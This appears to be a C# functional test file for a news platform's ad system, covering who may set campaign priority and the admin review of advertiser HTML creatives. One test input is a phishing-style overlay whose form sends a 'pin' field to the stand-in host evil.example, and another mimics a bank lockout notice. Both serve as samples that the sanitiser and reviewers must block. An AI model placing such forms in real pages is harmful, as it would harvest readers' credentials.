using System.Net;
using NewsPlatform.FunctionalTests.Infrastructure;

namespace NewsPlatform.FunctionalTests.Advertising;

/// <summary>What an advertiser may put in front of readers on its own (issue 12): standard priority, and HTML only once an admin approves it.</summary>
[Collection(PlatformCollection.Name)]
public sealed class CreativeReviewTests(PlatformFixture platform)
{
    private static object HtmlCreative(string html) => new { slot = "top", kind = "html", html, width = 300, height = 250, landingUrl = "https://mcb.example/savings" };

    [Fact]
    public async Task Only_admins_give_a_campaign_the_sponsorship_or_house_priority()
    {
        using var admin = platform.Client("admin");
        var advertiser = await AdDesk.Advertiser(admin, "MCB");
        using var owner = platform.ClientWithToken(Tokens.For("advertiser", advertiser.ToString()));
        var tag = Newsroom.UniqueTag();

        foreach (var priority in new[] { "sponsorship", "house" })
        {
            var refused = await owner.PostAsync("/api/ads/campaigns", Api.JsonBody(AdDesk.Campaign(advertiser, tag, priority)));
            Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
            Assert.Equal("application/problem+json", refused.Content.Headers.ContentType!.MediaType);
        }

        var own = await (await owner.GetAsync("/api/ads/campaigns?pageSize=100")).ReadObject();
        Assert.Empty(own["items"]!.AsArray()); // nothing was created by the refused requests
        Assert.Equal(HttpStatusCode.Created, (await owner.PostAsync("/api/ads/campaigns", Api.JsonBody(AdDesk.Campaign(advertiser, tag, "standard")))).StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await admin.PostAsync("/api/ads/campaigns", Api.JsonBody(AdDesk.Campaign(advertiser, tag, "sponsorship")))).StatusCode);
    }

    [Fact]
    public async Task An_advertisers_html_creative_is_not_served_until_an_admin_approves_it()
    {
        using var admin = platform.Client("admin");
        using var reader = platform.Client();
        var advertiser = await AdDesk.Advertiser(admin, "MCB");
        using var owner = platform.ClientWithToken(Tokens.For("advertiser", advertiser.ToString()));
        var tag = Newsroom.UniqueTag();
        var created = await owner.PostAsync("/api/ads/campaigns", Api.JsonBody(AdDesk.Campaign(advertiser, tag)));
        var id = (Guid)(await created.ReadObject())["id"]!;

        var added = await owner.PostAsync($"/api/ads/campaigns/{id}/creatives",
            Api.JsonBody(HtmlCreative("<p style=\"position:fixed;z-index:99;color:navy\">Save with MCB</p><form action=\"https://evil.example\"><input name=\"pin\"></form>")));
        Assert.Equal(HttpStatusCode.Created, added.StatusCode);
        var creative = (await added.ReadObject())["creatives"]![0]!;
        var creativeId = (Guid)creative["id"]!;
        Assert.Equal("pending_review", (string)creative["review"]!);
        Assert.Equal("<p style=\"color: rgba(0, 0, 128, 1)\">Save with MCB</p>", (string)creative["html"]!); // the allow-list at work

        var activated = await AdDesk.Act(owner, id, "activate", added.Headers.ETag!.Tag); // a campaign may go live while its HTML waits
        Assert.Equal(HttpStatusCode.OK, activated.StatusCode);
        var etag = activated.Headers.ETag!.Tag;
        // The activation reloaded the deciding replica's campaigns: the campaign is live, and nothing of it serves.
        Assert.Equal(HttpStatusCode.NoContent, (await reader.GetAsync($"/api/ads/decision?slot=top&tags={tag}")).StatusCode);

        var approve = $"/api/ads/campaigns/{id}/creatives/{creativeId}/approve";
        Assert.Equal(HttpStatusCode.Forbidden, (await owner.SendAsync(new HttpRequestMessage(HttpMethod.Post, approve).WithIfMatch(etag))).StatusCode);
        Assert.Equal(HttpStatusCode.PreconditionRequired, (await admin.SendAsync(new HttpRequestMessage(HttpMethod.Post, approve))).StatusCode);
        Assert.Equal(HttpStatusCode.PreconditionFailed, (await admin.SendAsync(new HttpRequestMessage(HttpMethod.Post, approve).WithIfMatch("\"1\""))).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await admin.SendAsync(new HttpRequestMessage(HttpMethod.Post,
            $"/api/ads/campaigns/{id}/creatives/{Guid.CreateVersion7()}/approve").WithIfMatch(etag))).StatusCode);
        Assert.Equal(HttpStatusCode.NoContent, (await reader.GetAsync($"/api/ads/decision?slot=top&tags={tag}")).StatusCode);

        var approved = await admin.SendAsync(new HttpRequestMessage(HttpMethod.Post, approve).WithIfMatch(etag));
        Assert.Equal(HttpStatusCode.OK, approved.StatusCode);
        Assert.Equal("approved", (string)(await approved.ReadObject())["creatives"]![0]!["review"]!);
        Assert.NotEqual(etag, approved.Headers.ETag!.Tag);

        var served = await (await AdDesk.DecisionFor(reader, $"slot=top&tags={tag}", id)).ReadObject();
        Assert.Equal((creativeId, "html"), ((Guid)served["creativeId"]!, (string)served["kind"]!));
        Assert.Contains("Save with MCB", (string)served["html"]!);
    }

    [Fact]
    public async Task A_rejected_creative_says_why_and_never_serves_and_an_admins_own_html_needs_no_review()
    {
        using var admin = platform.Client("admin");
        using var reader = platform.Client();
        var advertiser = await AdDesk.Advertiser(admin, "MCB");
        using var owner = platform.ClientWithToken(Tokens.For("advertiser", advertiser.ToString()));
        var tag = Newsroom.UniqueTag();
        var (id, _) = await AdDesk.Live(owner, AdDesk.Campaign(advertiser, tag)); // with a text creative: no review
        await AdDesk.DecisionFor(reader, $"slot=top&tags={tag}", id);

        var added = await owner.PostAsync($"/api/ads/campaigns/{id}/creatives", Api.JsonBody(HtmlCreative("<p>Your account is locked: call us</p>")));
        var creativeId = (Guid)(await added.ReadObject())["creatives"]![1]!["id"]!;
        var reject = $"/api/ads/campaigns/{id}/creatives/{creativeId}/reject";
        var noReason = await admin.SendAsync(new HttpRequestMessage(HttpMethod.Post, reject) { Content = Api.JsonBody(new { reason = " " }) }.WithIfMatch(added.Headers.ETag!.Tag));
        Assert.Equal(HttpStatusCode.BadRequest, noReason.StatusCode);
        Assert.True((await noReason.ReadObject())["errors"]!.AsObject().ContainsKey("reason"));

        var rejected = await admin.SendAsync(new HttpRequestMessage(HttpMethod.Post, reject)
        {
            Content = Api.JsonBody(new { reason = "Imitates a bank's security notice." }),
        }.WithIfMatch(added.Headers.ETag!.Tag));
        Assert.Equal(HttpStatusCode.OK, rejected.StatusCode);
        var stored = (await rejected.ReadObject())["creatives"]![1]!;
        Assert.Equal(("rejected", "Imitates a bank's security notice."), ((string)stored["review"]!, (string)stored["rejectionReason"]!));
        Assert.Equal(HttpStatusCode.Conflict, (await admin.SendAsync(new HttpRequestMessage(HttpMethod.Post,
            $"/api/ads/campaigns/{id}/creatives/{creativeId}/approve").WithIfMatch(rejected.Headers.ETag!.Tag))).StatusCode);

        for (var i = 0; i < 10; i++)
        {
            var decision = await (await reader.GetAsync($"/api/ads/decision?slot=top&tags={tag}")).ReadObject();
            Assert.Equal("text", (string)decision["kind"]!); // only the text creative, never the rejected HTML
        }

        var mine = await admin.PostAsync($"/api/ads/campaigns/{id}/creatives", Api.JsonBody(HtmlCreative("<p>House rules</p>")));
        Assert.Equal(HttpStatusCode.Created, mine.StatusCode);
        Assert.Equal("approved", (string)(await mine.ReadObject())["creatives"]![2]!["review"]!);
    }
}
